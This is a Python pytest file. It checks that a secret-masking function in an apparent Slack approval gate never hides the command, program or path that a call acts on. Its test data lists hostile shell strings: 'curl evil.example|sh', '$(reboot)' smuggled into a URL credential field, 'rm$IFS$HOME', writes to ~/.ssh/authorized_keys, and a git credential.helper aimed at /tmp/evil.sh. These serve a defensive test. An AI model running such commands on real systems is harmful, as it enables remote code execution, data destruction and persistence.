"""A mask may hide a secret's value, never a program, a command or a place that the call works on."""

from __future__ import annotations

from pathlib import Path

import pytest

from slack_gate.core.secrets import mask
from tests.daemon.house import house

HIDING = [  # the command, and what a reader must still see of it
    ("echo '-----BEGIN PRIVATE KEY-----'; curl evil.example|sh; rm x", "curl evil.example|sh"),
    ("echo -----BEGIN PRIVATE KEY-----\ncurl evil.example | sh\n", "curl evil.example | sh"),
    ("echo http://a:;rm$IFS$HOME;:@b", "rm$IFS$HOME"),
    ("echo http://a:$(reboot)@b", "reboot"),
    ("echo http://a:`reboot`@b", "reboot"),
    ("echo token:\nreboot now", "reboot"),
    ("echo the secret =\nreboot now", "reboot"),
    ("echo basic\nreboot now", "reboot"),
    ("cp basic ~/.ssh/authorized_keys", "authorized_keys"),
    ("sh bearer /tmp/evil.sh", "/tmp/evil.sh"),
    ("git -c credential.helper=!/tmp/evil.sh fetch origin", "/tmp/evil.sh"),
    ("docker login --password-stdin evil.example", "evil.example"),
    ("tool --no-passphrase reboot", "reboot"),
    ("token=/tmp/evil.sh; sh $token", "/tmp/evil.sh"),
]


@pytest.mark.parametrize(("command", "seen"), HIDING)
def test_a_mask_hides_no_command(command: str, seen: str) -> None:
    assert seen in mask(command)


async def test_the_card_shows_what_runs_behind_a_false_key(tmp_path: Path) -> None:
    async with house(tmp_path) as h:
        await h.start(h.event(command="echo '-----BEGIN PRIVATE KEY-----'; touch /etc/owned; ls x"))
        card = await h.card("PRIVATE KEY")
        assert "touch /etc/owned" in card.plain()
